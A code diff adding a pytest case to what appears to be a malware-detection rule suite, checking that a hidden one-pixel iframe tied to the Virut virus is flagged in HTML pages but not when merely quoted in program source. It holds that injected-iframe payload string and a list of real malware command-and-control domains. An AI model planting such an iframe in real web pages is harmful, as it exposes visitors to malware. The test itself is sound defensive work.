@@ -74,6 +74,18 @@ def test_a_tool_that_knows_every_version_of_wannamine_is_not_taken_for_one() -> 
     assert _rules(build_pe(sections={".rdata": words})) == []
 
 
+FRAME = b'<iframe src="http://ZieF.pl/rc/" width=1 height=1 style="border:0"></iframe>'
+
+
+@pytest.mark.parametrize("mark", [b"'", b'"', b"`"])
+def test_a_program_that_quotes_the_frame_of_virut_is_no_infected_page(mark: bytes) -> None:
+    quoting = b"frame = " + mark + FRAME + mark + b"\n"
+    assert _rules(quoting) == []
+    assert _rules(b"<html><body>" + FRAME + b"</body></html>") == ["virut_frame_in_page"]
+    assert _rules(FRAME) == ["virut_frame_in_page"]
+    assert _rules(quoting + b"<body>" + FRAME) == ["virut_frame_in_page"]
+
+
 def test_a_list_of_servers_to_block_is_not_taken_for_what_calls_them() -> None:
     servers = b"dqglobex.com\0verywellhere.cn\0iamnothere.cn\0proxim.ircgalaxy.pl\0ircd.zief.pl\0trafficconverter.biz\0"
     hits = RULES.match(build_pe(sections={".rsrc": servers}))
